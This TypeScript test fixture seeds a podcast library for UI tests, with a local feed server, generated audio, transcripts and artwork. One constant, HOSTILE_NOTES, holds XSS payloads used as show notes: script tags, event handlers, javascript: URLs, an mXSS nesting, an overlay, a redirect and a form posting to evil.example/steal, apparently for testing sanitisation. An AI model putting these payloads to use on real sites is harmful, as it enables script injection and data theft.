/**
 * A library a listener would have, made the way a user makes it: shows followed from feeds on a
 * local HTTP server (real MP3 audio from ffmpeg, publisher transcripts with speakers, chapters,
 * artwork, show notes), a file imported, a refresh that brings a new episode, and the real engine
 * (`earshot run --until-idle`) processing what was queued. Used by the UI suites.
 */
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { ffmpegPath } from '../../pipeline/ingest/ffmpeg.ts';
import { tempDir } from './env.ts';
import { makeAudio } from './audio.ts';
import { startFeedServer, type FeedServer } from './feed-server.ts';
import { emptyWhisperFile } from './whisper-install.ts';
import { earshot, runUntilIdle } from './ui.ts';

export const TALK_SHOW = 'The Long Game';
/** Seconds of audio in each of the talk show's episodes: one five-second cue per line. */
export const TALK_SECONDS = 180;

/** The talk show's episodes, newest first; `fresh` arrives with a refresh after subscribing. */
export const TALK_EPISODES = [
  { guid: 'lg-4', title: 'Bonus: listener questions', day: 0, fresh: true },
  { guid: 'lg-3', title: 'Why slow habits win', day: 2, fresh: false },
  { guid: 'lg-2', title: 'Sleep, explained', day: 9, fresh: false },
  { guid: 'lg-1', title: 'The attention budget', day: 16, fresh: false },
] as const;

/**
 * What is said in each talk episode: 35 five-second cues, two speakers taking turns. Long enough
 * that search cuts it into more than one passage, so a hit late in it has a time of its own.
 */
export const TALK_LINES: [speaker: string, text: string][] = [
  ['Lena Ortiz', 'Welcome back to The Long Game. I am Lena Ortiz.'],
  ['Lena Ortiz', 'Today my guest is Samir Haddad, who studies how habits form.'],
  ['Samir Haddad', 'Thanks, Lena. Habits are mostly about the cue, not the willpower.'],
  ['Samir Haddad', 'When the cue is clear, the routine follows without a fight.'],
  ['Lena Ortiz', 'So where should a listener start?'],
  ['Samir Haddad', 'Start smaller than feels useful. Two minutes a day is plenty.'],
  ['Samir Haddad', 'The research on streaks shows that consistency beats intensity.'],
  ['Lena Ortiz', 'That sounds almost too easy.'],
  ['Samir Haddad', 'It is easy to begin and hard to keep, which is the whole point.'],
  ['Lena Ortiz', 'What about the days when everything goes wrong?'],
  ['Samir Haddad', 'Never miss twice. One missed day is noise, two is a new habit.'],
  ['Lena Ortiz', 'Never miss twice. That is going on a sticky note above my desk.'],
  ['Samir Haddad', 'Put it where the cue already happens, not where you wish it happened.'],
  ['Samir Haddad', 'If you want to read more, leave the book on your pillow, not on a shelf.'],
  ['Lena Ortiz', 'So the environment does the remembering for you.'],
  ['Samir Haddad', 'Exactly. Design beats discipline almost every time in the studies we ran.'],
  ['Lena Ortiz', 'Tell me about those studies. Who took part, and for how long?'],
  ['Samir Haddad', 'Four hundred volunteers over twelve weeks, tracking one small habit each.'],
  ['Samir Haddad', 'Half of them got reminders on their phones, half changed their surroundings.'],
  ['Lena Ortiz', 'And the surroundings group won?'],
  ['Samir Haddad', 'By a wide margin. Phone reminders faded after the second week.'],
  ['Samir Haddad', 'People learn to swipe a notification away without reading it.'],
  ['Lena Ortiz', 'I feel seen. Let us take a question from a listener.'],
  ['Lena Ortiz', 'Priya in Ohio asks how to keep a habit going while travelling.'],
  ['Samir Haddad', 'Keep the smallest version alive. One push-up in a hotel room still counts.'],
  ['Samir Haddad', 'The point is to stay the kind of person who does the thing.'],
  ['Lena Ortiz', 'Identity, not intensity. I like that.'],
  ['Samir Haddad', 'A pianist I worked with practised with a metronome for five minutes a day on tour.'],
  ['Samir Haddad', 'Five minutes was enough to come home without losing a month of progress.'],
  ['Lena Ortiz', 'What is the most common mistake you see?'],
  ['Samir Haddad', 'Starting six habits at once on the first of January.'],
  ['Samir Haddad', 'Pick one, make it boring, and let it run for a season before adding another.'],
  ['Lena Ortiz', 'Boring is underrated. Samir, where can people find your work?'],
  ['Samir Haddad', 'My lab publishes everything openly, and the book comes out in the spring.'],
  ['Lena Ortiz', 'Thank you, Samir, this was useful. See you next week on The Long Game.'],
];
export const CUE_MS = 5000;

export const HOSTILE_NOTES = `<p>Payload below.</p>
<img src="https://tracker.example/pixel.gif" onerror="window.__pwned='img'">
<script>window.__pwned='script'</script>
<iframe src="javascript:window.__pwned='iframe'"></iframe>
<svg><script>window.__pwned='svg'</script><animate onbegin="window.__pwned='svg-anim'" attributeName="x" dur="1s"/></svg>
<a href="javascript:window.__pwned='link'">a javascript link</a>
<a href="https://example.com/fine" onclick="window.__pwned='onclick'" target="_self">a fine link</a>
<a href="/relative/page">a relative link</a>
<form action="https://evil.example/steal"><input name="x" autofocus onfocus="window.__pwned='focus'"></form>
<style>body { display: none }</style>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>
<p style="position:fixed;inset:0;background:red" id="overlay">styled text</p>
<object data="javascript:window.__pwned='object'"></object>
<embed src="javascript:window.__pwned='embed'">
<meta http-equiv="refresh" content="0;url=https://evil.example/">`;

export interface ListeningLibrary {
  dataDir: string;
  feeds: FeedServer;
  /** Environment for the CLI and `earshot serve` over this library. */
  env: NodeJS.ProcessEnv;
  /** Episode ids by guid (talk show, 'hostile-1', 'big-<n>') and 'file' for the imported one. */
  ids: Record<string, number>;
  bigFeedSize: number;
  close(): Promise<void>;
}

function vtt(): string {
  const stamp = (ms: number) => {
    const s = Math.floor(ms / 1000);
    return `00:${String(Math.floor(s / 60)).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}.${String(ms % 1000).padStart(3, '0')}`;
  };
  return `WEBVTT\n\n${TALK_LINES.map(
    ([who, text], i) => `${stamp(i * CUE_MS)} --> ${stamp((i + 1) * CUE_MS)}\n<v ${who}>${text}\n`,
  ).join('\n')}`;
}

const DAY = 86_400_000;

function talkFeed(feeds: FeedServer, now: number, withFresh: boolean, audioLength: number): string {
  const items = TALK_EPISODES.filter((e) => withFresh || !e.fresh)
    .map(
      (e) => `<item><guid>${e.guid}</guid><title>${e.title}</title>
      <pubDate>${new Date(now - e.day * DAY).toUTCString()}</pubDate>
      <itunes:duration>${TALK_SECONDS}</itunes:duration>
      <description><![CDATA[<p>Lena talks with <b>Samir Haddad</b> about ${e.title.toLowerCase()}.</p>
        <p>Skip to (00:30) for the two-minute rule. More at <a href="https://longgame.example/${e.guid}">the episode page</a>.</p>
        <ul><li>Never miss twice</li><li>Start smaller than feels useful</li></ul>]]></description>
      <psc:chapters version="1.2"><psc:chapter start="00:00:00" title="Welcome"/>
        <psc:chapter start="00:00:10" title="Cues, not willpower"/><psc:chapter start="00:00:25" title="Start small"/>
        <psc:chapter start="00:00:45" title="Never miss twice"/>
        <psc:chapter start="00:01:00" title="Design beats discipline"/>
        <psc:chapter start="00:01:50" title="Listener question"/></psc:chapters>
      <enclosure url="/audio/${e.guid}.mp3" type="audio/mpeg" length="${audioLength}"/>
      <podcast:transcript url="/tx/${e.guid}.vtt" type="text/vtt" language="en"/></item>`,
    )
    .join('');
  return `<?xml version="1.0"?><rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"
    xmlns:podcast="https://podcastindex.org/namespace/1.0" xmlns:psc="http://podlove.org/simple-chapters">
    <channel><title>${TALK_SHOW}</title><link>https://longgame.example/</link><language>en</language>
    <itunes:author>Lena Ortiz</itunes:author><itunes:image href="${feeds.url('/art/long-game.png')}"/>
    ${items}</channel></rss>`;
}

/** A square picture (a colour gradient), as show artwork. */
export function makeArtwork(file: string, hue: 'warm' | 'cool' = 'warm'): Buffer {
  const expr =
    hue === 'warm'
      ? "geq=r='120+100*X/W':g='60+80*Y/H':b='200-60*X/W'"
      : "geq=r='30+40*Y/H':g='120+90*X/W':b='140+80*Y/H'";
  execFileSync(ffmpegPath(), [
    '-hide_banner',
    '-loglevel',
    'error',
    '-y',
    '-f',
    'lavfi',
    '-i',
    `color=c=black:s=400x400,${expr}`,
    '-frames:v',
    '1',
    file,
  ]);
  return fs.readFileSync(file);
}

export async function seedListeningLibrary(
  options: { bigFeedSize?: number } = {},
): Promise<ListeningLibrary> {
  const bigFeedSize = options.bigFeedSize ?? 1200;
  const dataDir = tempDir('earshot-listen-ui-');
  const work = tempDir('earshot-listen-files-');
  const feeds = await startFeedServer();
  const env: NodeJS.ProcessEnv = { EARSHOT_MODELS_DIR: '' };
  const now = Date.now();

  const audio = fs.readFileSync(makeAudio(work, 'talk.mp3', TALK_SECONDS));
  feeds.route('/art/long-game.png', {
    body: makeArtwork(path.join(work, 'warm.png')),
    headers: { 'content-type': 'image/png' },
  });
  feeds.route('/art/big.png', {
    body: makeArtwork(path.join(work, 'cool.png'), 'cool'),
    headers: { 'content-type': 'image/png' },
  });
  for (const e of TALK_EPISODES) {
    feeds.route(`/audio/${e.guid}.mp3`, {
      body: audio,
      headers: { 'content-type': 'audio/mpeg' },
      ranges: true,
    });
    feeds.route(`/tx/${e.guid}.vtt`, { body: vtt(), headers: { 'content-type': 'text/vtt' } });
  }
  feeds.route('/long-game.xml', { body: talkFeed(feeds, now, false, audio.length) });
  feeds.route('/hostile.xml', {
    body: `<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile Notes</title>
      <item><guid>hostile-1</guid><title>An episode with dangerous notes</title>
      <pubDate>${new Date(now - 5 * DAY).toUTCString()}</pubDate>
      <description><![CDATA[${HOSTILE_NOTES}]]></description>
      <enclosure url="/audio/hostile.mp3" type="audio/mpeg" length="${audio.length}"/></item></channel></rss>`,
  });
  feeds.route('/audio/hostile.mp3', { body: audio, headers: { 'content-type': 'audio/mpeg' }, ranges: true });
  const bigItems = Array.from(
    { length: bigFeedSize },
    (_, i) => `<item><guid>big-${bigFeedSize - i}</guid><title>Daily news ${bigFeedSize - i}</title>
      <pubDate>${new Date(now - (i + 1) * DAY).toUTCString()}</pubDate><itunes:duration>600</itunes:duration>
      <enclosure url="/audio/big-${bigFeedSize - i}.mp3" type="audio/mpeg" length="1000"/></item>`,
  ).join('');
  feeds.route('/big.xml', {
    body: `<?xml version="1.0"?><rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
      <channel><title>Daily News Archive</title><itunes:author>Newsroom</itunes:author>
      <itunes:image href="${feeds.url('/art/big.png')}"/>${bigItems}</channel></rss>`,
  });

  // A Whisper model with no weights: the imported file is transcribed (to silence), quickly.
  const model = JSON.parse(
    await earshot(dataDir, ['--json', 'models', 'import', emptyWhisperFile()], env),
  ) as {
    model: { id: string };
  };
  await earshot(dataDir, ['models', 'use', model.model.id], env);
  await earshot(dataDir, ['subscribe', feeds.url('/long-game.xml'), '--backlog', 'all'], env);
  await earshot(dataDir, ['subscribe', feeds.url('/hostile.xml'), '--backlog', 'new'], env);
  await earshot(dataDir, ['subscribe', feeds.url('/big.xml'), '--backlog', 'new'], env);
  const memo = makeAudio(work, 'kitchen-memo.mp3', 20, { title: 'Kitchen memo' });
  await earshot(dataDir, ['import', memo], env);
  // A new episode since subscribing: the refresh brings it, queued and in the inbox.
  feeds.route('/long-game.xml', { body: talkFeed(feeds, now, true, audio.length) });
  await earshot(dataDir, ['refresh'], env);
  await earshot(dataDir, ['process', '--all'], env);
  await runUntilIdle(dataDir, env, 180_000);

  const ids: Record<string, number> = {};
  const episodes = JSON.parse(await earshot(dataDir, ['--json', 'episodes', '--limit', '100000'], env)) as {
    id: number;
    key: string;
    keySource: string;
    title: string;
    feedId: number | null;
  }[];
  const guidOf: Record<string, string> = Object.fromEntries([
    ...TALK_EPISODES.map((e) => [e.title, e.guid]),
    ['An episode with dangerous notes', 'hostile-1'],
  ]);
  for (const e of episodes) {
    if (e.feedId === null) ids.file = e.id;
    else if (guidOf[e.title]) ids[guidOf[e.title]!] = e.id;
    else {
      const m = /^Daily news (\d+)$/.exec(e.title);
      if (m) ids[`big-${m[1]}`] = e.id;
    }
  }
  return {
    dataDir,
    feeds,
    env,
    ids,
    bigFeedSize,
    close: () => feeds.close(),
  };
}
